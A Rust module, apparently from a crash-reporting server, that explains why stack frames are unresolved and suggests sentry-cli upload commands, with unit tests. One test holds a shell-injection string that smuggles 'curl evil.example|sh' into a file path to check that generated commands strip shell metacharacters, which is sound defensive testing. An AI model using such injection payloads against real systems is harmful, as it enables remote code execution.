//! Why a frame is not resolved, in one sentence, and the command that fixes it.

use protocol::id::{CodeId, DebugId};
use protocol::stacktrace::FrameStatus;

use crate::figure::counted;
use crate::help::{UploadHelp, is_system};

/// Hex digits of a build id that a sentence shows.
const BUILD_ID_DIGITS: usize = 12;
/// Characters of a file name or URL that a sentence shows, counted from its end.
const NAME_CHARS_MAX: usize = 80;

/// Leads to commands that need the very build whose events arrive.
const DEPLOYED: &str = "In the folder of the build that is deployed:";

/// Why a frame is as it is, and what to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Reason {
    /// How much it matters.
    pub weight: Weight,
    /// The sentences, in parts.
    pub parts: Vec<Part>,
    /// The command that fixes it, where one does.
    pub command: Option<String>,
    /// The same in a few words, for plain text and repetitions: `no debug file for libpayments.so`.
    pub short: String,
}

/// How much a reason matters to the reader.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Weight {
    /// The frame cannot be read.
    Unresolved,
    /// The frame can be read, but something is known to be missing.
    Note,
}

/// A piece of a sentence.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Part {
    /// Words.
    Text(String),
    /// What a program would print: an id, a path, a flag.
    Code(String),
}

impl Reason {
    /// Returns the sentences as plain text.
    pub fn text(&self) -> String {
        self.parts
            .iter()
            .map(|part| match part {
                Part::Text(text) | Part::Code(text) => text.as_str(),
            })
            .collect()
    }
}

/// Returns why a frame is not (fully) resolved; `None` where there is nothing to say.
pub fn reason(status: &FrameStatus, help: &UploadHelp) -> Option<Reason> {
    let reason = match status {
        FrameStatus::AsSent | FrameStatus::Symbolicated => return None,
        FrameStatus::UnknownImage
        | FrameStatus::ImageWithoutId { .. }
        | FrameStatus::MissingDebugFile { .. }
        | FrameStatus::MissingSymbol { .. }
        | FrameStatus::SymbolicatedWithoutLine { .. }
        | FrameStatus::UnusableDebugFile { .. }
        | FrameStatus::TooLargeHere { .. } => native(status, help),
        FrameStatus::NoDebugId { .. }
        | FrameStatus::MissingSourceMap { .. }
        | FrameStatus::BundleWithoutMap { .. }
        | FrameStatus::UnusableSourceMap { .. }
        | FrameStatus::NoPosition { .. }
        | FrameStatus::PositionOutOfRange { .. }
        | FrameStatus::PositionUnmapped { .. } => source_map(status, help),
    };
    let waiting = help.waiting_for(&missing_keys(status));
    Some(Draft { waiting, ..reason }.build())
}

/// Returns the keys under which the server remembers what this frame waits for.
pub fn missing_keys(status: &FrameStatus) -> Vec<String> {
    let of_debug_id = |id: &DebugId| format!("debug-id:{id}");
    match status {
        FrameStatus::MissingDebugFile { debug_id, code_id, .. } => {
            let code_id = code_id.as_ref().map(|id: &CodeId| format!("code-id:{id}"));
            debug_id.as_ref().map(of_debug_id).into_iter().chain(code_id).collect()
        }
        FrameStatus::MissingSourceMap { debug_id, .. }
        | FrameStatus::BundleWithoutMap { debug_id, .. } => vec![format!("sourcemap:{debug_id}")],
        _ => Vec::new(),
    }
}

fn native(status: &FrameStatus, help: &UploadHelp) -> Draft {
    match status {
        FrameStatus::MissingDebugFile { debug_id, code_id, code_file, arch } => {
            let file = code_file.as_deref();
            missing_debug_file(debug_id.as_ref(), code_id.as_ref(), file, arch.as_deref())
                .command(folder_words(file), help.debug_file(debug_id.as_ref(), file))
        }
        FrameStatus::MissingSymbol { debug_id, module_offset } => {
            Draft::new("the debug file has no function at this address")
                .text("the uploaded debug file (debug id ")
                .code(debug_id)
                .text(") has no function at ")
                .code(format!("+{module_offset:#x}"))
                .text(". It was stripped too far, or this is code that the linker made.")
                .command("Upload the unstripped file:", help.debug_file(Some(debug_id), None))
        }
        FrameStatus::SymbolicatedWithoutLine { debug_id, file_has_lines } => {
            without_line(debug_id, *file_has_lines, help)
        }
        FrameStatus::UnusableDebugFile { debug_id, code_file, reason } => {
            let name = code_file.as_deref().map_or("this image", file_name);
            Draft::new(format!("the debug file of {name} cannot be used"))
                .text("the uploaded debug file of ")
                .code(shortened(name))
                .text(" (debug id ")
                .code(debug_id)
                .text(format!(") cannot be used: {}.", ended(reason)))
                .command("Build it again, then:", help.debug_file(Some(debug_id), code_file.as_deref()))
        }
        FrameStatus::TooLargeHere { debug_id, reason } => {
            Draft::new("the file is too large for this server")
                .text("the file with debug id ")
                .code(debug_id)
                .text(format!(
                    " is too large for this server: {}.",
                    ended(reason)
                ))
                .command("Give the server more memory, then upload it again:", help.debug_file(Some(debug_id), None))
        }
        FrameStatus::ImageWithoutId { code_file } => {
            let name = code_file.as_deref().map_or("its image", file_name);
            Draft::new(format!("{name} has no build id"))
                .code(shortened(name))
                .text(" has neither a debug id nor a build id, so no file can be matched to it. Link it with ")
                .code("-Wl,--build-id")
                .text(" and deploy it again; what crashed so far stays unresolved.")
        }
        _ => Draft::new("the address is in no image that the event lists")
            .text("the address is in no image that the event lists. It is code made at run time, a damaged stack, or \
                   an SDK that sends no images (Rust: switch on the feature ")
            .code("debug-images")
            .text(" of the crate ")
            .code("sentry")
            .text("). There is nothing to upload."),
    }
}

fn folder_words(code_file: Option<&str>) -> &'static str {
    if code_file.is_some_and(is_system) {
        "With that package installed:"
    } else {
        "In the folder it was built in:"
    }
}

fn missing_debug_file(
    debug_id: Option<&DebugId>,
    code_id: Option<&CodeId>,
    code_file: Option<&str>,
    arch: Option<&str>,
) -> Draft {
    let name = code_file.map_or("this image", file_name);
    let draft = Draft::new(format!("no debug file for {name}"))
        .text("no debug file for ")
        .code(shortened(name))
        .text(" (");
    let draft = match (code_id, debug_id) {
        (Some(code_id), _) => draft.text("build id ").code(cut(code_id.as_str(), BUILD_ID_DIGITS)),
        (None, Some(debug_id)) => draft.text("debug id ").code(debug_id),
        (None, None) => draft.text("without an id"),
    };
    let draft = match arch {
        Some(arch) => draft.text(format!(", {arch}) was uploaded.")),
        None => draft.text(") was uploaded."),
    };
    if code_file.is_some_and(is_system) {
        return draft
            .text(" Its distribution has it as a debug package (-dbg, -dbgsym or -debuginfo).");
    }
    draft
}

fn without_line(debug_id: &DebugId, file_has_lines: bool, help: &UploadHelp) -> Draft {
    if file_has_lines {
        return Draft::new("the compiler names no line here")
            .note()
            .text("the compiler names no source line for this address; the function is certain.");
    }
    Draft::new("the debug file has no line information")
        .note()
        .text("the uploaded file (debug id ")
        .code(debug_id)
        .text(") knows functions but no lines. Build with ")
        .code("-g")
        .text(" (Rust: ")
        .code("debug = \"line-tables-only\"")
        .text("), or do not strip.")
        .command("Then upload the file again:", help.debug_file(Some(debug_id), None))
}

fn source_map(status: &FrameStatus, help: &UploadHelp) -> Draft {
    match status {
        FrameStatus::NoDebugId { abs_path } => {
            Draft::new(format!("{} carries no debug id", file_name(abs_path)))
                .code(shortened(abs_path))
                .text(" carries no debug id, so no source map can be matched to it.")
                .command("Run this on the build, then deploy the files it changed:", help.inject_and_upload(abs_path))
        }
        FrameStatus::MissingSourceMap { debug_id, abs_path } => {
            Draft::new(format!("no source map for {}", file_name(abs_path)))
                .text("no source map for ")
                .code(shortened(abs_path))
                .text(" (debug id ")
                .code(debug_id)
                .text(") was uploaded.")
                .command(DEPLOYED, help.source_maps(abs_path))
        }
        FrameStatus::BundleWithoutMap { debug_id, abs_path } => {
            Draft::new(format!("{} was uploaded without its source map", file_name(abs_path)))
                .code(shortened(abs_path))
                .text(" was uploaded (debug id ")
                .code(debug_id)
                .text("), but without its source map. Build with source maps switched on (esbuild, Vite: ")
                .code("sourcemap: true")
                .text(").")
                .command("Build again, then:", help.inject_and_upload(abs_path))
        }
        FrameStatus::UnusableSourceMap { debug_id, abs_path, reason } => {
            Draft::new(format!("the source map of {} cannot be used", file_name(abs_path)))
                .text("the source map of ")
                .code(shortened(abs_path))
                .text(" (debug id ")
                .code(debug_id)
                .text(format!(") cannot be used: {}.", ended(reason)))
                .command("Build again, then:", help.inject_and_upload(abs_path))
        }
        FrameStatus::PositionOutOfRange { debug_id, abs_path, what } => {
            Draft::new(format!("another build of {} is running", file_name(abs_path)))
                .text("another build of ")
                .code(shortened(abs_path))
                .text(format!(" is running than the one uploaded: {} (debug id ", ended(what)))
                .code(debug_id)
                .text("). A wrong line would be worse than none.")
                .command(DEPLOYED, help.inject_and_upload(abs_path))
        }
        FrameStatus::PositionUnmapped { debug_id, abs_path } => {
            Draft::new("code that the bundler made")
                .text("the source map of ")
                .code(shortened(abs_path))
                .text(" (debug id ")
                .code(debug_id)
                .text(") has no original for this position: it is code that the bundler made. There is nothing to \
                       upload.")
        }
        FrameStatus::NoPosition { abs_path } => no_position(abs_path),
        _ => no_position(""),
    }
}

fn no_position(abs_path: &str) -> Draft {
    Draft::new("the frame has no line")
        .text("the SDK sent no line for ")
        .code(if abs_path.is_empty() { "this file".to_owned() } else { shortened(abs_path) })
        .text(", so no source map can say more. Built-in functions and evaluated code look like this; there is \
               nothing to upload.")
}

/// A reason while its sentences are put together.
struct Draft {
    weight: Weight,
    short: String,
    parts: Vec<Part>,
    waiting: Option<u64>,
    lead: Option<&'static str>,
    command: Option<String>,
}

impl Draft {
    fn new(short: impl Into<String>) -> Self {
        let short = single_line(&short.into());
        Self {
            weight: Weight::Unresolved,
            short,
            parts: Vec::new(),
            waiting: None,
            lead: None,
            command: None,
        }
    }

    fn note(self) -> Self {
        Self { weight: Weight::Note, ..self }
    }

    fn text(mut self, text: impl Into<String>) -> Self {
        self.parts.push(Part::Text(text.into()));
        self
    }

    fn code(mut self, code: impl ToString) -> Self {
        self.parts.push(Part::Code(code.to_string()));
        self
    }

    /// The command, and the words that lead to it.
    fn command(self, lead: &'static str, command: String) -> Self {
        Self { lead: Some(lead), command: Some(command), ..self }
    }

    fn build(mut self) -> Reason {
        if let Some(count) = self.waiting {
            let verb = if count == 1 { "waits for it; it is" } else { "wait for it; they are" };
            let events = counted(count, "event", "events");
            self.parts.push(Part::Text(format!(" {events} {verb} fixed when it arrives.")));
        }
        self.parts.extend(self.lead.map(|lead| Part::Text(format!(" {lead}"))));
        Reason { weight: self.weight, parts: self.parts, command: self.command, short: self.short }
    }
}

/// The last component of a path or URL, without query.
fn file_name(path: &str) -> &str {
    let path = path.split(['?', '#']).next().unwrap_or(path);
    path.rsplit(['/', '\\']).find(|name| !name.is_empty()).unwrap_or(path)
}

fn shortened(name: &str) -> String {
    let name = single_line(name);
    let length = name.chars().count();
    if length <= NAME_CHARS_MAX {
        return name;
    }
    format!("…{}", name.chars().skip(length - NAME_CHARS_MAX).collect::<String>())
}

fn cut(text: &str, chars: usize) -> String {
    if text.chars().count() <= chars {
        return text.to_owned();
    }
    format!("{}…", text.chars().take(chars).collect::<String>())
}

/// Without the full stop at the end, which the sentence around it brings.
fn ended(text: &str) -> &str {
    text.trim().trim_end_matches('.')
}

/// Control characters would break plain text out of its line.
fn single_line(text: &str) -> String {
    text.chars().map(|c| if c.is_control() { ' ' } else { c }).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const ID: &str = "bf5627ec-1a34-c0cc-408d-e3b4ae21aaee";
    const APP: &str = "https://shop.example/dist/app.js";

    fn help() -> UploadHelp {
        UploadHelp {
            origin: "https://errors.example".to_owned(),
            organization: "default".to_owned(),
            project: "app".to_owned(),
            waiting: [(format!("debug-id:{ID}"), 214), (format!("sourcemap:{ID}"), 214)]
                .into_iter()
                .collect(),
        }
    }

    fn id() -> DebugId {
        ID.parse().unwrap()
    }

    #[track_caller]
    fn check(status: FrameStatus, text: &str, command: Option<&str>) {
        let reason = reason(&status, &help()).unwrap();
        assert_eq!(reason.text(), text);
        assert_eq!(reason.command.as_deref(), command);
        assert!(!reason.short.is_empty() && !reason.short.contains('\n'));
    }

    fn missing(code_file: Option<&str>, code_id: Option<&str>) -> FrameStatus {
        FrameStatus::MissingDebugFile {
            debug_id: Some(id()),
            code_id: code_id.map(|id| id.parse().unwrap()),
            code_file: code_file.map(str::to_owned),
            arch: Some("x86_64".to_owned()),
        }
    }

    #[test]
    fn readable_frames_need_no_reason() {
        assert_eq!(reason(&FrameStatus::AsSent, &help()), None);
        assert_eq!(reason(&FrameStatus::Symbolicated, &help()), None);
    }

    #[test]
    fn missing_debug_file_names_file_id_arch_and_waiting_events() {
        check(
            missing(
                Some("/srv/target/release/app"),
                Some("ec2756bf341accc0408de3b4ae21aaee91d2b0c4"),
            ),
            "no debug file for app (build id ec2756bf341a…, x86_64) was uploaded. 214 events wait for it; they are \
             fixed when it arrives. In the folder it was built in:",
            Some(
                "sentry-cli --url https://errors.example debug-files upload --org default --project app \
                 --include-sources --id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee ./target/release",
            ),
        );
        check(
            missing(None, None),
            "no debug file for this image (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee, x86_64) was uploaded. 214 \
             events wait for it; they are fixed when it arrives. In the folder it was built in:",
            Some(
                "sentry-cli --url https://errors.example debug-files upload --org default --project app \
                 --include-sources --id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee .",
            ),
        );
    }

    #[test]
    fn a_system_library_is_looked_for_in_its_debug_package() {
        check(
            missing(Some("/usr/lib/x86_64-linux-gnu/libc.so.6"), None),
            "no debug file for libc.so.6 (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee, x86_64) was uploaded. Its \
             distribution has it as a debug package (-dbg, -dbgsym or -debuginfo). 214 events wait for it; they are \
             fixed when it arrives. With that package installed:",
            Some(
                "sentry-cli --url https://errors.example debug-files upload --org default --project app --id \
                 bf5627ec-1a34-c0cc-408d-e3b4ae21aaee /usr/lib/debug",
            ),
        );
    }

    #[test]
    fn other_native_reasons() {
        let upload = "sentry-cli --url https://errors.example debug-files upload --org default --project app \
                      --include-sources --id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee .";
        check(
            FrameStatus::MissingSymbol { debug_id: id(), module_offset: 0x4b9e },
            "the uploaded debug file (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) has no function at +0x4b9e. It \
             was stripped too far, or this is code that the linker made. Upload the unstripped file:",
            Some(upload),
        );
        check(
            FrameStatus::SymbolicatedWithoutLine { debug_id: id(), file_has_lines: false },
            "the uploaded file (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) knows functions but no lines. Build \
             with -g (Rust: debug = \"line-tables-only\"), or do not strip. Then upload the file again:",
            Some(upload),
        );
        check(
            FrameStatus::SymbolicatedWithoutLine { debug_id: id(), file_has_lines: true },
            "the compiler names no source line for this address; the function is certain.",
            None,
        );
        check(
            FrameStatus::UnusableDebugFile {
                debug_id: id(),
                code_file: Some("/opt/app".to_owned()),
                reason: "section .debug_line is truncated.".to_owned(),
            },
            "the uploaded debug file of app (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) cannot be used: section \
             .debug_line is truncated. Build it again, then:",
            Some(upload),
        );
        check(
            FrameStatus::TooLargeHere {
                debug_id: id(),
                reason: "more than 2 GB of memory".to_owned(),
            },
            "the file with debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee is too large for this server: more than 2 GB \
             of memory. Give the server more memory, then upload it again:",
            Some(upload),
        );
    }

    #[test]
    fn frames_without_identity_have_nothing_to_upload() {
        check(
            FrameStatus::ImageWithoutId { code_file: Some("/opt/app".to_owned()) },
            "app has neither a debug id nor a build id, so no file can be matched to it. Link it with \
             -Wl,--build-id and deploy it again; what crashed so far stays unresolved.",
            None,
        );
        check(
            FrameStatus::UnknownImage,
            "the address is in no image that the event lists. It is code made at run time, a damaged stack, or an SDK \
             that sends no images (Rust: switch on the feature debug-images of the crate sentry). There is nothing to \
             upload.",
            None,
        );
    }

    const UPLOAD: &str = "sentry-cli --url https://errors.example sourcemaps upload --org default --project app ./dist";
    const INJECT: &str = "sentry-cli sourcemaps inject ./dist && sentry-cli --url https://errors.example sourcemaps \
                          upload --org default --project app ./dist";

    #[test]
    fn missing_source_maps_name_file_and_id() {
        check(
            FrameStatus::NoDebugId { abs_path: APP.to_owned() },
            "https://shop.example/dist/app.js carries no debug id, so no source map can be matched to it. Run this on \
             the build, then deploy the files it changed:",
            Some(INJECT),
        );
        check(
            FrameStatus::MissingSourceMap { debug_id: id(), abs_path: APP.to_owned() },
            "no source map for https://shop.example/dist/app.js (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) was \
             uploaded. 214 events wait for it; they are fixed when it arrives. In the folder of the build that is \
             deployed:",
            Some(UPLOAD),
        );
        check(
            FrameStatus::BundleWithoutMap { debug_id: id(), abs_path: APP.to_owned() },
            "https://shop.example/dist/app.js was uploaded (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee), but \
             without its source map. Build with source maps switched on (esbuild, Vite: sourcemap: true). 214 events \
             wait for it; they are fixed when it arrives. Build again, then:",
            Some(INJECT),
        );
    }

    #[test]
    fn source_maps_that_do_not_fit_say_so() {
        check(
            FrameStatus::UnusableSourceMap {
                debug_id: id(),
                abs_path: APP.to_owned(),
                reason: "it is not JSON".to_owned(),
            },
            "the source map of https://shop.example/dist/app.js (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) cannot \
             be used: it is not JSON. Build again, then:",
            Some(INJECT),
        );
        check(
            FrameStatus::PositionOutOfRange {
                debug_id: id(),
                abs_path: APP.to_owned(),
                what: "line 9 of 3".to_owned(),
            },
            "another build of https://shop.example/dist/app.js is running than the one uploaded: line 9 of 3 (debug id \
             bf5627ec-1a34-c0cc-408d-e3b4ae21aaee). A wrong line would be worse than none. In the folder of the build \
             that is deployed:",
            Some(INJECT),
        );
        check(
            FrameStatus::PositionUnmapped { debug_id: id(), abs_path: APP.to_owned() },
            "the source map of https://shop.example/dist/app.js (debug id bf5627ec-1a34-c0cc-408d-e3b4ae21aaee) has no \
             original for this position: it is code that the bundler made. There is nothing to upload.",
            None,
        );
        check(
            FrameStatus::NoPosition { abs_path: String::new() },
            "the SDK sent no line for this file, so no source map can say more. Built-in functions and evaluated code \
             look like this; there is nothing to upload.",
            None,
        );
    }

    #[test]
    fn commands_never_hold_words_of_the_event() {
        let attack = "x';$(curl evil.example|sh)\n`id`/target/release/$(id)/dist&&id/";
        let statuses = [
            missing(Some(attack), None),
            FrameStatus::MissingSourceMap { debug_id: id(), abs_path: attack.to_owned() },
            FrameStatus::NoDebugId { abs_path: attack.to_owned() },
        ];
        for status in statuses {
            let reason = reason(&status, &help()).unwrap();
            let command = reason.command.unwrap();
            assert!(!command.contains(['$', '`', ';', '\n', '\'', '|']), "{command}");
            assert!(!reason.short.contains('\n'));
        }
    }

    #[test]
    fn one_event_waits_in_the_singular_and_none_not_at_all() {
        let mut help = help();
        let status = FrameStatus::MissingSourceMap { debug_id: id(), abs_path: APP.to_owned() };
        help.waiting = [(format!("sourcemap:{ID}"), 1)].into_iter().collect();
        let text = reason(&status, &help).unwrap().text();
        assert!(text.contains(" 1 event waits for it; it is fixed when it arrives."), "{text}");
        help.waiting.clear();
        assert!(!reason(&status, &help).unwrap().text().contains("wait"));
    }
}
